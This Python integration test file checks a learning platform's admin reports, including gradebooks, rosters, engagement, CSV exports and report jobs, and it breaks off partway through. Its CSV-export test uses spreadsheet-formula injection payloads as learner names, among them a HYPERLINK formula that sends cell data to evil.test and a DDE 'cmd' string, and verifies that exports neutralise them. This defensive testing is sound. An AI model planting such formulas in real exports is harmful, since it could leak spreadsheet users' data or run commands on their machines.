"""reports.py - administrator reports checked against figures worked out
by hand on a small fixture; JSON and CSV agreeing; role limits.  Cases run
alone by name: python3 tests/integration/reports.py grade_changes"""
import base64
import csv
import io
import os
import signal
import subprocess
import time
import types

from cases import case, fixture, run
from harness import Cohortd, Postgres, login, PW

Q2 = [{"kind": "single_choice", "prompt": "a?", "options": ["x", "y"],
       "answer": 0},
      {"kind": "single_choice", "prompt": "b?", "options": ["x", "y"],
       "answer": 1}]


def rows(resp):
    return list(csv.DictReader(io.StringIO(resp.body.decode())))


def walk(client, url):
    """Every page of a paged list, following next_cursor."""
    pages = []
    while url and len(pages) < 100:
        r = client.get(url)
        assert r.status == 200, r
        pages.append(r.json)
        cur = r.json.get("next_cursor")
        url = (url.split("&cursor=")[0] + "&cursor=" + cur) if cur else None
    return pages


def job_done(client, job, timeout=30):
    """Poll a report job until it is done or failed."""
    end = time.time() + timeout
    while time.time() < end:
        j = client.get("/v1/reports/jobs/" + job["id"]).json
        if j.get("state") in ("done", "failed"):
            return j
        time.sleep(0.05)
    return j


@fixture
def world():
    """Tenant acme: a published program of two modules (lessons L1, L2 and
    quiz Q1 due on day 3; lesson L3 and quiz Q2), a cohort C begun ten days
    ago with two seats and a waitlist; ann has completed it, bob is active,
    cat waitlisted, dan withdrawn; their lessons and quiz submissions."""
    pg = Postgres()
    db = pg.new_database()
    d = Cohortd(pg.url(db), env={"COHORTD_ROLE": "api"})
    a = d.admin()
    a.post("/v1/tenants", {"slug": "acme", "name": "Acme",
                           "admin": {"email": "admin@acme.test",
                                     "name": "Admin", "password": PW}})
    adm = login(d, "acme", "admin@acme.test")

    prog = adm.post("/v1/programs", {"title": "P", "status": "published"}).json
    m1 = adm.post("/v1/programs/%s/modules" % prog["id"], {"title": "M1"}).json
    m2 = adm.post("/v1/programs/%s/modules" % prog["id"], {"title": "M2"}).json
    l1, l2 = [adm.post("/v1/modules/%s/lessons" % m1["id"],
                       {"title": x, "estimated_minutes": 5}).json
              for x in ("L1", "L2")]
    l3 = adm.post("/v1/modules/%s/lessons" % m2["id"],
                  {"title": "L3", "estimated_minutes": 5}).json
    q1 = adm.post("/v1/modules/%s/assessments" % m1["id"],
                  {"title": "Q1", "kind": "quiz", "weight": 1,
                   "pass_score": 60, "due_days": 3, "questions": Q2}).json
    q2 = adm.post("/v1/modules/%s/assessments" % m2["id"],
                  {"title": "Q2", "kind": "quiz", "weight": 3,
                   "pass_score": 50, "questions": Q2}).json
    start = time.strftime("%Y-%m-%dT%H:%M:%SZ",
                          time.gmtime(time.time() - 10 * 86400))
    coh = adm.post("/v1/cohorts", {"program_id": prog["id"], "name": "C",
                                   "starts_at": start,
                                   "ends_at": "2099-01-01T00:00:00Z",
                                   "capacity": 2, "waitlist": True}).json
    users = {}
    for n in ("ann", "bob", "cat", "dan"):
        users[n] = adm.post("/v1/users", {"email": n + "@acme.test",
                                          "name": n.title(), "role": "learner",
                                          "password": PW}).json["id"]
        adm.post("/v1/cohorts/%s/enrollments" % coh["id"],
                 {"user_id": users[n]})
    enr = {e["user_id"]: e["id"] for e in adm.get(
        "/v1/cohorts/%s/enrollments" % coh["id"]).json["items"]}
    adm.post("/v1/enrollments/%s/withdraw" % enr[users["dan"]])

    ann, bob = login(d, "acme", "ann@acme.test"), login(d, "acme",
                                                        "bob@acme.test")
    for lz in (l1, l2):
        ann.post("/v1/lessons/%s/completion" % lz["id"])
    ann.post("/v1/assessments/%s/submissions" % q1["id"], {"answers": [0, 1]})
    ann.post("/v1/lessons/%s/completion" % l3["id"])
    ann.post("/v1/assessments/%s/submissions" % q2["id"], {"answers": [0, 0]})
    bob.post("/v1/lessons/%s/completion" % l1["id"])
    bob.post("/v1/assessments/%s/submissions" % q1["id"], {"answers": [0, 1]})
    bob.post("/v1/assessments/%s/submissions" % q1["id"], {"answers": [1, 0]})
    return types.SimpleNamespace(**locals())


@fixture
def late_work():
    """Q2 falls due on day 1; cat gets a seat and fails both quizzes
    (written straight into the database: two graded failures)."""
    w = world()
    adm, pg, db, coh, q1, q2 = w.adm, w.pg, w.db, w.coh, w.q1, w.q2
    enr, users = w.enr, w.users
    adm.patch("/v1/assessments/" + q2["id"], {"due_days": 1})
    adm.patch("/v1/cohorts/" + coh["id"], {"capacity": 3})
    qids = {}
    for q in (q1, q2):
        qids[q["id"]] = adm.get("/v1/assessments/" + q["id"]).json["questions"]
    cat_e = enr[users["cat"]]
    for n, q in enumerate((q1, q2)):
        detail = ",".join('{"question_id":"%s","correct":false,"points":0,'
                          '"max_points":1}' % x["id"] for x in qids[q["id"]])
        pg.psql("INSERT INTO submissions (tenant_id, assessment_id, "
                "enrollment_id, user_id, attempt, answers, score, "
                "final_score, passed, detail) SELECT tenant_id, '%s', id, "
                "user_id, 1, '[1, 0]', 0, 0, false, '[%s]' FROM enrollments "
                "WHERE id = '%s'" % (q["id"], detail, cat_e), db)


@fixture
def exercise():
    """Catalog exercise parallel-sum, three graded submissions of it (ann:
    wrong, then accepted at a 1.8 speedup; bob: a data race); its id."""
    w = world()
    adm, pg, db, q1, enr, users = w.adm, w.pg, w.db, w.q1, w.enr, w.users
    exid = adm.post("/v1/exercises/import", {"catalog": "parallel-sum"}
                    ).json["id"]
    ann_e, bob_e = enr[users["ann"]], enr[users["bob"]]
    for e_id, att, verdict, b_ok, spd in ((ann_e, 3, "wrong_answer", "false",
                                           None),
                                          (ann_e, 4, "accepted", "true", 1.8),
                                          (bob_e, 3, "data_race", "false",
                                           None)):
        res = ('{"tests": [{"name": "a", "passed": true}, {"name": "b", '
               '"passed": %s}], "speedup": %s}'
               % (b_ok, '{"median": %s}' % spd if spd else "null"))
        pg.psql("INSERT INTO submissions (tenant_id, assessment_id, "
                "enrollment_id, user_id, attempt, status, exercise_id, "
                "exercise_version, verdict, result, score, final_score) "
                "SELECT tenant_id, '%s', id, user_id, %d, 'graded', '%s', 1, "
                "'%s', '%s', 50, 50 FROM enrollments WHERE id = '%s'"
                % (q1["id"], att, exid, verdict, res, e_id), db)
    return exid


@fixture
def grade_changes_made():
    """Ann's accepted submission regraded from 60 to 90; an extension for
    bob (the grade changes listed then, and who the admin is, are kept for
    the grade_changes case), then one for cat."""
    w = world()
    exercise()
    adm, pg, db, coh, q1, q2, users = (w.adm, w.pg, w.db, w.coh, w.q1, w.q2,
                                       w.users)
    sub_id = pg.psql("SELECT id FROM submissions WHERE verdict = 'accepted'",
                     db)
    pg.psql("INSERT INTO grade_history (tenant_id, submission_id, graded_at, "
            "verdict, score, final_score) SELECT tenant_id, id, now() - "
            "interval '1 hour', 'accepted', 60, 60 FROM submissions WHERE "
            "id = '%s'; INSERT INTO grade_history (tenant_id, submission_id, "
            "verdict, score, final_score) SELECT tenant_id, id, 'accepted', "
            "90, 90 FROM submissions WHERE id = '%s'" % (sub_id, sub_id), db)
    adm.post("/v1/assessments/%s/extensions" % q2["id"],
             {"user_id": users["bob"], "cohort_id": coh["id"],
              "extra_attempts": 1})
    r = adm.get("/v1/reports/grade-changes")
    gc = r.json["items"] if r.status == 200 else []
    me = adm.get("/v1/me").json["id"]
    adm.post("/v1/assessments/%s/extensions" % q1["id"],
             {"user_id": users["cat"], "cohort_id": coh["id"],
              "extra_attempts": 2})
    return gc, me


@fixture
def ivy_user():
    """Ivy, an instructor of no cohort yet, logged in."""
    w = world()
    w.adm.post("/v1/users", {"email": "ivy@acme.test", "name": "Ivy",
                             "role": "instructor", "password": PW})
    return login(w.d, "acme", "ivy@acme.test")


@fixture
def ivy_instructor():
    """Ivy made the instructor of cohort C."""
    w = world()
    ivy = ivy_user()
    adm, coh = w.adm, w.coh
    adm.patch("/v1/cohorts/" + coh["id"], {"instructors": [
        adm.get("/v1/users?email=ivy").json["items"][0]["id"]]})
    return ivy


@case
def roster(t):
    w = world()
    adm, coh = w.adm, w.coh
    # ---- roster ----------------------------------------------------------
    r = adm.get("/v1/reports/cohorts/%s/roster" % coh["id"])
    st = {x["email"]: (x["state"], x["waitlist_position"]) for x in
          r.json["items"]}
    t.eq(st, {"ann@acme.test": ("completed", None),
              "bob@acme.test": ("active", None),
              "cat@acme.test": ("waitlisted", 1),
              "dan@acme.test": ("withdrawn", None)},
         "roster: states and waitlist positions")
    t.ok(all(x["source"] == "api" and x["enrolled_at"] for x in
             r.json["items"]) and
         [x for x in r.json["items"] if x["email"] == "ann@acme.test"][0]
         ["last_activity_at"], "roster: source, enrolled_at, last activity")
    c = adm.get("/v1/reports/cohorts/%s/roster?format=csv" % coh["id"])
    t.ok(c.status == 200 and c.header("content-type").startswith("text/csv")
         and {x["email"]: (x["state"], int(x["waitlist_position"]) if
                           x["waitlist_position"] else None) for x in rows(c)}
         == st, "roster CSV agrees with JSON", c.body[:300])


@case
def seats(t):
    w = world()
    adm = w.adm
    # ---- seats -------------------------------------------------------------
    r = adm.get("/v1/reports/seats")
    s = r.json["items"][0] if r.status == 200 and r.json["items"] else {}
    t.eq({k: s.get(k) for k in ("capacity", "active", "waitlisted",
                                "withdrawn", "completed", "utilisation")},
         {"capacity": 2, "active": 1, "waitlisted": 1, "withdrawn": 1,
          "completed": 1, "utilisation": 1.0},
         "seats: capacity, states, utilisation (completed learners keep "
         "their seat)")
    c = adm.request("GET", "/v1/reports/seats",
                    headers={"Accept": "text/csv"})
    t.ok(c.status == 200 and rows(c)[0]["utilisation"] == "1" and
         rows(c)[0]["active"] == "1", "seats CSV via Accept", c.body[:200])


@case
def gradebook(t):
    w = world()
    adm, q1, q2, coh = w.adm, w.q1, w.q2, w.coh
    # ---- gradebook ---------------------------------------------------------
    gb = "/v1/reports/cohorts/%s/gradebook" % coh["id"]
    r = adm.get(gb)
    g = {x["email"]: x for x in r.json["items"]} if r.status == 200 else {}
    t.eq([x["title"] for x in r.json["assessments"]], ["Q1", "Q2"],
         "gradebook: assessments in curriculum order")
    t.eq(sorted(g), ["ann@acme.test", "bob@acme.test"],
         "gradebook: learners neither withdrawn nor waitlisted")
    rw = adm.get(gb + "?include=waitlisted")
    gw = {x["email"]: x for x in rw.json["items"]} if rw.status == 200 else {}
    t.eq(sorted(gw), ["ann@acme.test", "bob@acme.test", "cat@acme.test"],
         "gradebook ?include=waitlisted: the waitlisted learner too")
    r2 = adm.get(gb + "?include=withdrawn")
    t.ok(r2.is_problem(422) and any(e.get("parameter") == "include"
                                    for e in r2.json.get("errors", [])),
         "gradebook ?include=withdrawn: 422 naming the parameter", r2)
    a1 = g["ann@acme.test"]["assessments"]
    b1 = g["bob@acme.test"]["assessments"][q1["id"]]
    t.ok(a1[q1["id"]]["best"] == 100 and a1[q1["id"]]["late"] is True and
         a1[q2["id"]]["best"] == 50 and a1[q2["id"]]["late"] is False,
         "gradebook: best scores and the late flag (Q1 due on day 3)", a1)
    t.ok(b1["best"] == 100 and b1["latest"] == 0 and b1["attempts"] == 2,
         "gradebook: best and latest differ, attempts counted", b1)
    t.eq((gw["ann@acme.test"]["final_grade"],
          gw["bob@acme.test"]["final_grade"],
          gw["cat@acme.test"]["final_grade"]), (62.5, 25.0, 0.0),
         "gradebook: weighted final grade (1x100 + 3x50) / 4 = 62.5, "
         "100 / 4 = 25, nothing = 0")
    c = adm.get(gb + "?format=csv")
    cr = {x["email"]: x for x in rows(c)}
    t.ok(c.status == 200 and list(rows(c)[0].keys()) ==
         ["email", "name", "state", "Q1", "Q2", "final_grade",
          "provisional"] and
         cr["ann@acme.test"]["provisional"] == "false" and
         cr["ann@acme.test"]["Q1"] == "100.00" and
         cr["ann@acme.test"]["Q2"] == "50.00" and
         cr["bob@acme.test"]["Q2"] == "" and
         float(cr["bob@acme.test"]["final_grade"]) == 25.0,
         "gradebook CSV: a column per assessment, agreeing with JSON",
         c.body[:400])
    t.eq(sorted(cr), ["ann@acme.test", "bob@acme.test"],
         "gradebook CSV: the waitlisted learner left out")
    t.eq((cr["ann@acme.test"]["final_grade"],
          cr["bob@acme.test"]["final_grade"]), ("62.50", "25.00"),
         "gradebook CSV: a final grade with two decimals, as every score")
    cw = adm.get(gb + "?format=csv&include=waitlisted")
    cwr = {x["email"]: x for x in rows(cw)} if cw.status == 200 else {}
    t.ok(sorted(cwr) == ["ann@acme.test", "bob@acme.test", "cat@acme.test"]
         and cwr["cat@acme.test"]["state"] == "waitlisted" and
         cwr["cat@acme.test"]["Q1"] == "" and
         cwr["cat@acme.test"]["final_grade"] == "0.00",
         "gradebook CSV ?include=waitlisted: the waitlisted learner, no "
         "scores, a final grade of 0.00", cw.body[:400])
    pages = walk(adm, gb + "?include=waitlisted&limit=1")
    t.ok(len(pages) == 3 and all(len(p["items"]) == 1 and
                                 [x["title"] for x in p["assessments"]] ==
                                 ["Q1", "Q2"] for p in pages) and
         [x["email"] for p in pages for x in p["items"]] ==
         [x["email"] for x in rw.json["items"]] ==
         [x["email"] for x in rows(cw)],
         "gradebook pages: one learner each, every assessment on each page, "
         "the same learners in the same (enrollment) order as the whole "
         "list and the CSV", [p.get("items") for p in pages])
    r = adm.get(gb + "?include=waitlisted&limit=1")
    t.ok("include=waitlisted" in (r.header("link") or ""),
         "gradebook: the next page's link keeps ?include", r.header("link"))


@case
def completion(t):
    w = world()
    adm, coh = w.adm, w.coh
    # ---- completion ----------------------------------------------------------
    r = adm.get("/v1/reports/cohorts/%s/completion" % coh["id"])
    comp = {x["title"]: x for x in r.json["items"]} if r.status == 200 else {}
    t.ok(comp["M1"]["learners"] == 2 and comp["M1"]["complete"] == 1 and
         comp["M1"]["percent_complete"] == 50.0 and
         comp["M2"]["percent_complete"] == 50.0,
         "completion: half of the two active or completed learners", comp)
    t.ok(9.9 <= comp["M1"]["median_days"] <= 10.1,
         "completion: median days from the start (about 10)",
         comp["M1"]["median_days"])
    t.eq({x["title"]: x["completions"] for x in comp["M1"]["lessons"] +
          comp["M2"]["lessons"]}, {"L1": 2, "L2": 1, "L3": 1},
         "completion: per lesson counts")
    c = adm.get("/v1/reports/cohorts/%s/completion?format=csv" % coh["id"])
    t.ok(c.status == 200 and [float(x["percent_complete"]) for x in rows(c)]
         == [50.0, 50.0], "completion CSV agrees", c.body[:300])


@case
def tenant_overview(t):
    w = world()
    a, adm, coh = w.a, w.adm, w.coh
    # ---- tenant overview -------------------------------------------------------
    a.post("/v1/tenants", {"slug": "zeta", "name": "Zeta",
                           "admin": {"email": "z@z.test", "name": "Z",
                                     "password": PW}})
    r = a.get("/v1/reports/tenants")
    ov = {x["slug"]: x for x in r.json["items"]} if r.status == 200 else {}
    t.eq({k: ov.get("acme", {}).get(k) for k in ("users", "cohorts",
                                                 "active_learners",
                                                 "submissions_30d",
                                                 "queue_depth")},
         {"users": 5, "cohorts": 1, "active_learners": 1,
          "submissions_30d": 4, "queue_depth": 0},
         "tenant overview: acme's figures")
    t.eq(ov.get("zeta", {}).get("users"), 1, "and zeta's, separately")
    t.ok(adm.get("/v1/reports/tenants").is_problem(403),
         "tenant admins cannot read the platform overview")
    bad = base64.urlsafe_b64encode(
        b"9999-99-99 99:99:99|00000000-0000-0000-0000-000000000001"
    ).decode().rstrip("=")
    t.ok(adm.get("/v1/reports/seats?cursor=" + bad).is_problem(422) and
         adm.get("/v1/reports/cohorts/%s/gradebook?cursor=%s"
                 % (coh["id"], bad)).is_problem(422),
         "a cursor whose time the database rejects is 422, not 500")
    pages = walk(a, "/v1/reports/tenants?limit=1")
    t.eq([x["slug"] for p in pages for x in p["items"]], ["acme", "zeta"],
         "tenant overview pages, in creation order")


@case
def engagement(t):
    w = world()
    adm, coh = w.adm, w.coh
    late_work()
    # ---- engagement, missing and late work --------------------------------
    r = adm.get("/v1/reports/cohorts/%s/engagement" % coh["id"])
    eng = {x["email"]: x for x in r.json["items"]} if r.status == 200 else {}
    t.eq(sorted(eng), ["bob@acme.test", "cat@acme.test"],
         "engagement: the active learners")
    t.ok(eng["bob@acme.test"]["lessons_7d"] == 1 and
         eng["bob@acme.test"]["at_risk_reasons"] == ["past_due_unsubmitted"]
         and eng["cat@acme.test"]["at_risk_reasons"] ==
         ["inactive", "failed_assessments"],
         "at-risk reasons: past due with nothing submitted; inactive and "
         "two failed assessments", eng)
    c = adm.get("/v1/reports/cohorts/%s/engagement?format=csv" % coh["id"])
    t.ok(c.status == 200 and len(rows(c)) == 2, "engagement CSV", c.body[:200])
    pages = walk(adm, "/v1/reports/cohorts/%s/engagement?limit=1" % coh["id"])
    t.eq([x["email"] for p in pages for x in p["items"]],
         [x["email"] for x in r.json["items"]],
         "engagement pages: the same learners, one a page")
    t.ok(adm.get("/v1/reports/cohorts/%s/engagement?inactive_days=0"
                 % coh["id"]).is_problem(422), "a bad inactive_days is 422")

    r = adm.get("/v1/reports/cohorts/%s/missing" % coh["id"])
    mi = {x["email"]: x for x in r.json["items"]} if r.status == 200 else {}
    t.eq({k: [m["title"] for m in v["missing"]] for k, v in mi.items()},
         {"ann@acme.test": [], "bob@acme.test": ["Q2"],
          "cat@acme.test": ["Q1", "Q2"]},
         "missing: assessments past due without a pass")
    t.eq({k: len(v["late"]) for k, v in mi.items()},
         {"ann@acme.test": 1, "bob@acme.test": 2, "cat@acme.test": 0},
         "late work: the submissions after their due date")
    pages = walk(adm, "/v1/reports/cohorts/%s/missing?limit=2" % coh["id"])
    t.ok([len(p["items"]) for p in pages] == [2, 1] and
         [x["email"] for p in pages for x in p["items"]] ==
         [x["email"] for x in r.json["items"]],
         "missing work pages: two and one", pages)


@case
def quiz_items(t):
    w = world()
    adm, q1 = w.adm, w.q1
    late_work()
    # ---- quiz item analysis -------------------------------------------------
    r = adm.get("/v1/reports/assessments/%s/items" % q1["id"])
    it = r.json["items"] if r.status == 200 else []
    t.ok(len(it) == 2 and all(x["learners"] == 3 for x in it) and
         [x["percent_correct"] for x in it] == [66.7, 66.7],
         "items: two of three learners right on each question", it)
    t.ok([x["discrimination"] for x in it] == [1.0, 1.0] and
         [x["most_chosen_wrong"] for x in it] == [1, 0],
         "items: discrimination (top group right, bottom wrong) and the "
         "most chosen wrong option", it)


@case
def exercise_analytics(t):
    w = world()
    adm, coh = w.adm, w.coh
    exid = exercise()
    r = adm.get("/v1/reports/exercises/" + exid)
    x = r.json if r.status == 200 else {}
    t.ok(x.get("submissions") == 3 and x.get("learners") == 2 and
         x.get("verdicts") == {"accepted": 1, "wrong_answer": 1,
                               "data_race": 1},
         "exercise analytics: submissions, learners, verdict counts", x)
    t.ok(x.get("tests") == [{"name": "a", "runs": 3, "pass_rate": 100.0},
                            {"name": "b", "runs": 3, "pass_rate": 33.3}] and
         x.get("attempts_to_pass") == {"4": 1} and
         x.get("median_attempts_to_pass") == 4 and
         x["speedup"]["median"] == 1.8 and
         x["speedup"]["buckets"]["1.75-2.0"] == 1,
         "exercise analytics: pass rate per test, attempts to pass, speedup "
         "distribution", x)
    r = adm.get("/v1/reports/exercises/%s?cohort_id=%s" % (exid, coh["id"]))
    t.eq(r.json.get("submissions"), 3, "filtered by cohort")


@case
def grade_changes(t):
    w = world()
    adm = w.adm
    gc, me = grade_changes_made()
    t.ok([(g["kind"], g["old_value"], g["new_value"]) for g in gc
          if g["kind"] == "regrade"] == [("regrade", "60.00", "90.00")] and
         [(g["kind"], g["by_user"]) for g in gc if g["kind"] == "extension"]
         == [("extension", me)],
         "grade changes: a regrade's old and new score; an extension and who "
         "granted it", gc)
    t.ok([g["kind"] for g in gc] == ["extension", "regrade"],
         "grade changes: newest first", gc)
    pages = walk(adm, "/v1/reports/grade-changes?limit=1")
    t.ok([len(p["items"]) for p in pages] == [1, 1, 1] and
         [(x["kind"], x["new_value"]) for p in pages for x in p["items"]] ==
         [("extension", " +2 attempts"), ("extension", " +1 attempts"),
          ("regrade", "90.00")],
         "grade changes pages: newest first, one a page, none twice",
         [p["items"] for p in pages])


@case
def role_limits(t):
    # ---- role limits ---------------------------------------------------------
    w = world()
    q1, coh, ann = w.q1, w.coh, w.ann
    exid = exercise()
    ivy = ivy_user()
    t.ok(ivy.get("/v1/reports/cohorts/%s/gradebook" % coh["id"])
         .is_problem(404), "an instructor cannot read another cohort's report")
    t.eq(ivy.get("/v1/reports/seats").json["items"], [],
         "an instructor's seats report lists only their cohorts")
    t.eq(ivy.get("/v1/reports/grade-changes").json["items"], [],
         "and their grade changes only their cohorts'")
    ivy = ivy_instructor()
    t.eq(ivy.get("/v1/reports/cohorts/%s/gradebook" % coh["id"]).status, 200,
         "the cohort's own instructor can")
    t.ok(all(ann.get(u).is_problem(403) for u in (
        "/v1/reports/seats", "/v1/reports/cohorts/%s/roster" % coh["id"],
        "/v1/reports/grade-changes", "/v1/reports/exercises/" + exid,
        "/v1/reports/assessments/%s/items" % q1["id"])),
         "learners read no report")


@case
def csv_injection(t):
    # ---- CSV export: injection, quoting, the file's name ----------------------
    w = world()
    csv_export(t, w.adm, w.prog)


@case
def report_jobs(t):
    # ---- report jobs -----------------------------------------------------------
    # Last: it stops and restarts the daemon.
    w = world()
    pg, db, d, a, adm, q1, coh = w.pg, w.db, w.d, w.a, w.adm, w.q1, w.coh
    late_work()
    exid = exercise()
    grade_changes_made()
    ivy_instructor()
    gc_all = adm.get("/v1/reports/grade-changes").json["items"]
    jobs(t, pg, db, d, a, adm, login, coh, exid, q1, gc_all)


# Names a spreadsheet would run as formulas (OWASP CSV injection), and
# names RFC 4180 quoting has to carry whole.
FORMULAS = {"eve@acme.test": '=HYPERLINK("http://evil.test/?"&A1,"Click")',
            "pat@acme.test": "+1 555 0100",
            "mia@acme.test": "-2+3+cmd|' /C calc'!A0",
            "al@acme.test": "@SUM(A1:A9)",
            "tab@acme.test": "\t=1+1",
            "cr@acme.test": "\r=1+1"}
PLAIN = {"con@acme.test": 'Conan "The Dev" O\'Brien, Jr.',
         "ml@acme.test": "Two\r\nLines; one record",
         "ok@acme.test": "Ana-Maria = fine"}


def csv_export(t, adm, prog):
    """Exports as a spreadsheet opens them safely: cells that start a
    formula get a leading quote, fields are quoted by RFC 4180, the
    download has a name."""
    coh = adm.post("/v1/cohorts", {"program_id": prog["id"], "name": "X",
                                   "starts_at": "2026-01-01T00:00:00Z",
                                   "ends_at": "2099-01-01T00:00:00Z"}).json
    for email, name in list(FORMULAS.items()) + list(PLAIN.items()):
        r = adm.post("/v1/cohorts/%s/enrollments" % coh["id"],
                     {"email": email, "name": name})
        assert r.status == 201, r
    days = {time.strftime("%Y-%m-%d", time.gmtime())}
    c = adm.get("/v1/reports/cohorts/%s/roster?format=csv" % coh["id"])
    days.add(time.strftime("%Y-%m-%d", time.gmtime()))
    got = {x["email"]: x["name"] for x in rows(c)} if c.status == 200 else {}
    t.eq({e: got.get(e) for e in FORMULAS},
         {e: "'" + n for e, n in FORMULAS.items()},
         "roster CSV: a name starting with =, +, -, @, tab or CR gets a "
         "leading quote")
    t.ok(b',=HYPERLINK' not in c.body and b'"=HYPERLINK' not in c.body and
         b"\n=" not in c.body and b",+1" not in c.body,
         "roster CSV: no cell starts a formula", c.body[:600])
    t.eq({e: got.get(e) for e in PLAIN}, PLAIN,
         "roster CSV: quotes, commas, semicolons and line breaks inside a "
         "name come back whole, and text with = inside is left alone")
    lines = c.body.split(b"\r\n")
    t.ok(c.status == 200 and lines[-1] == b"" and
         len(rows(c)) == len(FORMULAS) + len(PLAIN) and
         all(None not in x and None not in x.values() for x in rows(c)),
         "roster CSV: CRLF after every record, each with the header's "
         "fields", c.body[:600])
    disp = c.header("content-disposition") or ""
    t.ok(disp in ['attachment; filename="roster-%s.csv"' % x for x in days],
         "roster CSV: downloads as roster-<date>.csv", disp)
    g = adm.get("/v1/reports/cohorts/%s/gradebook?format=csv" % coh["id"])
    gn = {x["email"]: x["name"] for x in rows(g)} if g.status == 200 else {}
    t.ok(gn.get("eve@acme.test") == "'" + FORMULAS["eve@acme.test"] and
         gn.get("con@acme.test") == PLAIN["con@acme.test"] and
         (g.header("content-disposition") or "") in
         ['attachment; filename="gradebook-%s.csv"' % x for x in days],
         "gradebook CSV: names neutralised and quoted the same way; "
         "gradebook-<date>.csv", (g.header("content-disposition"),
                                  g.body[:400]))


def jobs(t, pg, db, d, a, adm, login, coh, exid, q1, gc_all):
    """Report jobs: rendered whole in the background, the same bodies the
    direct requests give; validation, who may read a job, a lost runner,
    expiry."""
    cid = coh["id"]
    r = adm.post("/v1/reports/jobs", {"report": "gradebook", "cohort_id": cid,
                                      "format": "csv"})
    t.ok(r.status == 202 and r.json.get("state") in ("queued", "running",
                                                     "done") and
         r.header("location") == "/v1/reports/jobs/" + r.json.get("id", ""),
         "a report job: 202, its state and a Location to poll", r)
    j = job_done(adm, r.json)
    res = adm.get(j.get("result_url") or "/none")
    direct = adm.get("/v1/reports/cohorts/%s/gradebook?format=csv" % cid)
    t.ok(j.get("state") == "done" and res.status == 200 and
         res.header("content-type").startswith("text/csv") and
         res.body == direct.body and j.get("rows") == len(rows(direct)) and
         j.get("bytes") == len(direct.body),
         "gradebook CSV job: byte for byte the direct export; rows and bytes "
         "counted", (j, res.body[:200], direct.body[:200]))
    t.ok('filename="gradebook-%s.csv"' % j.get("id") in
         (res.header("content-disposition") or ""),
         "the result downloads as a named file")
    wc = adm.post("/v1/cohorts", {"program_id": coh["program_id"],
                                  "name": "W", "capacity": 1,
                                  "waitlist": True,
                                  "starts_at": "2026-01-01T00:00:00Z",
                                  "ends_at": "2099-01-01T00:00:00Z"}).json
    for n in ("wa", "wb"):
        adm.post("/v1/cohorts/%s/enrollments" % wc["id"],
                 {"email": n + "@acme.test", "name": n})
    r = adm.post("/v1/reports/jobs", {"report": "gradebook",
                                      "cohort_id": wc["id"], "format": "csv",
                                      "include": "waitlisted"})
    j = job_done(adm, r.json) if r.status == 202 else {}
    res = adm.get(j.get("result_url") or "/none")
    direct = adm.get("/v1/reports/cohorts/%s/gradebook?format=csv&"
                     "include=waitlisted" % wc["id"])
    plain = adm.get("/v1/reports/cohorts/%s/gradebook?format=csv" % wc["id"])
    t.ok(r.status == 202 and j.get("args", {}).get("include") ==
         "waitlisted" and res.status == 200 and res.body == direct.body and
         [x["state"] for x in rows(res)] == ["active", "waitlisted"] and
         [x["state"] for x in rows(plain)] == ["active"],
         "gradebook job with include waitlisted: the direct export with "
         "?include=waitlisted", (j, res.body[:300]))
    r = adm.post("/v1/reports/jobs", {"report": "gradebook", "cohort_id": cid,
                                      "include": "withdrawn"})
    r2 = adm.post("/v1/reports/jobs", {"report": "roster", "cohort_id": cid,
                                       "include": "waitlisted"})
    t.ok(r.is_problem(422) and r2.is_problem(422) and
         [e["pointer"] for e in r.json.get("errors", []) +
          r2.json.get("errors", [])] == ["/include", "/include"],
         "a job's include: only waitlisted, only for the gradebook", (r, r2))

    page = adm.get("/v1/reports/cohorts/%s/gradebook?limit=500" % cid).json
    r = adm.post("/v1/reports/jobs", {"report": "gradebook", "cohort_id": cid})
    j = job_done(adm, r.json)
    body = adm.get("/v1/reports/jobs/%s/result" % r.json["id"]).json
    t.ok(j.get("format") == "json" and body["items"] == page["items"] and
         body["assessments"] == page["assessments"],
         "gradebook JSON job (the default format): the pages' items together, "
         "with the assessments", body)

    for req, url in (({"report": "grade_changes"},
                      "/v1/reports/grade-changes?limit=500"),
                     ({"report": "engagement", "cohort_id": cid,
                       "inactive_days": 30},
                      "/v1/reports/cohorts/%s/engagement?inactive_days=30"
                      % cid),
                     ({"report": "items", "assessment_id": q1["id"]},
                      "/v1/reports/assessments/%s/items" % q1["id"]),
                     ({"report": "completion", "cohort_id": cid},
                      "/v1/reports/cohorts/%s/completion" % cid)):
        r = adm.post("/v1/reports/jobs", req)
        job_done(adm, r.json)
        got = adm.get("/v1/reports/jobs/%s/result" % r.json.get("id")).json
        t.eq(got.get("items"), adm.get(url).json["items"],
             "%s job agrees with %s" % (req["report"], url))
    t.eq(gc_all, adm.get("/v1/reports/grade-changes").json["items"],
         "(nothing changed grades meanwhile)")
    r = adm.post("/v1/reports/jobs", {"report": "exercise", "exercise_id": exid,
                                      "cohort_id": cid})
    job_done(adm, r.json)
    t.eq(adm.get("/v1/reports/jobs/%s/result" % r.json["id"]).json,
         adm.get("/v1/reports/exercises/%s?cohort_id=%s" % (exid, cid)).json,
         "exercise analytics job, filtered by cohort: the same object")

    # ---- validation
    nil = "00000000-0000-0000-0000-000000000001"
    for body, ptr, why in (
            ({"report": "bogus"}, "/report", "an unknown report"),
            ({"report": "gradebook"}, "/cohort_id", "a missing subject"),
            ({"report": "seats", "cohort_id": cid}, "/cohort_id",
             "a member the report does not use"),
            ({"report": "gradebook", "cohort_id": nil}, "/cohort_id",
             "a cohort that does not exist"),
            ({"report": "gradebook", "cohort_id": "x"}, "/cohort_id",
             "a malformed id"),
            ({"report": "roster", "cohort_id": cid, "format": "xml"},
             "/format", "an unknown format"),
            ({"report": "engagement", "cohort_id": cid, "inactive_days": 0},
             "/inactive_days", "inactive_days out of range"),
            ({"report": "tenants"}, "/report",
             "the platform overview (not a tenant's job)")):
        r = adm.post("/v1/reports/jobs", body)
        t.ok(r.is_problem(422) and ptr in [e.get("pointer") for e in
                                           r.json.get("errors", [])],
             "job request with %s: 422 at %s" % (why, ptr), r)

    # ---- who reads a job
    r = adm.post("/v1/users", {"email": "joe@acme.test", "name": "Joe",
                               "role": "instructor", "password": PW})
    assert r.status == 201, r
    joe = login(d, "acme", "joe@acme.test")
    ivy = login(d, "acme", "ivy@acme.test")
    r = joe.post("/v1/reports/jobs", {"report": "roster", "cohort_id": cid})
    t.ok(r.is_problem(422), "an instructor cannot ask for another cohort's "
         "report", r)
    mine = adm.post("/v1/reports/jobs", {"report": "seats"}).json
    t.ok(joe.get("/v1/reports/jobs/" + mine["id"]).is_problem(404) and
         joe.get("/v1/reports/jobs/%s/result" % mine["id"]).is_problem(404),
         "nor read an admin's job or its result")
    ivy_job = ivy.post("/v1/reports/jobs", {"report": "roster",
                                            "cohort_id": cid}).json
